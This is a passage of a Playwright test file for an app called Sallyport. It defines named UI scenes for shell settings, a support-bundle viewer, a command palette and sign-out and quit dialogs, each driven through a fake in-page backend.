  ["settings-refused", "", async (page) => { await go(",")(page); await page.getByRole("radio", { name: "/usr/bin/dash" }).waitFor(); await page.evaluate(() => window.sallyportFake.world.shells.pop()); await page.getByRole("radio", { name: "/usr/bin/dash" }).click(); await page.getByText("is not among this machine's shells").waitFor(); }],
  ["settings-no-shells", "scene=noShells", async (page) => { await page.evaluate(() => (window.sallyportFake.world.shell = "/opt/fish/bin/fish")); await go(",")(page); await page.getByText("lists no shells").waitFor(); }],
  ["settings-long", "scene=longPaths", async (page) => { await go(",")(page); await page.getByRole("table").waitFor(); }],
  ["settings-loading", "scene=settingsLoading", async (page) => { await go(",")(page); await page.getByText("Reading what was chosen").waitFor(); }],
  ["settings-failed", "scene=settingsFail", async (page) => { await go(",")(page); await page.getByRole("alert").waitFor(); }],
  ["support", "", support((page) => page.getByText("It holds no token").waitFor())],
  ["support-log", "", support(async (page) => { await page.getByText("log.txt", { exact: true }).click(); await page.getByRole("region", { name: "log.txt" }).evaluate((e) => (e.scrollTop = e.scrollHeight)); })],
  ["support-found", "", support(async (page) => { await page.getByLabel("Find in the bundle").fill("cluster-7"); await page.getByText("log.txt", { exact: true }).click(); })],
  ["support-written", "", support(async (page) => { await page.getByLabel("Write to").press("Enter"); await page.getByText("Written, for you alone").waitFor(); })],
  ["support-refused", "", support(async (page) => { await page.getByLabel("Write to").fill("/home/dev/taken.tar.gz"); await page.getByLabel("Write to").press("Enter"); await page.getByRole("alert").waitFor(); })],
  ["support-loading", "scene=supportLoading", support((page) => page.getByText("Gathering what").waitFor())],
  ["support-failed", "scene=supportFails", support((page) => page.getByRole("alert").waitFor())],
  ["palette", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("Control+K"); await page.locator("#palette-0").waitFor(); }],
  ["palette-search", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("Control+K"); await page.keyboard.type("ledger"); await page.locator("#palette-3").waitFor(); }],
  ["keys", "", async (page) => { await page.locator("#clusters").waitFor(); await page.keyboard.press("?"); await page.getByRole("dialog").waitFor(); }],
  ["sign-out", "speed=50", async (page) => { await work(page); await page.getByRole("button", { name: /dev@example/ }).click(); await page.getByRole("button", { name: "Sign out" }).click(); await page.getByText("Sign out?").waitFor(); }],
  ["quit", "speed=50", async (page) => { await work(page); await page.evaluate(() => window.sallyportFake.world.hear({ kind: "quitAsked" })); await page.getByText("Quit Sallyport?").waitFor(); }],
  ["signed-out-proof", "speed=3", async (page) => { await work(page); await page.evaluate(() => { for (const s of window.sallyportFake.world.sessions.values()) s.pause = (ms) => new Promise((r) => setTimeout(r, ms / 2)); }); await page.getByRole("button", { name: /dev@example/ }).click(); await page.getByRole("button", { name: "Sign out" }).click(); await page.getByRole("dialog").getByRole("button", { name: "Sign out" }).click(); await page.getByText("rights gone").waitFor(); }],
];
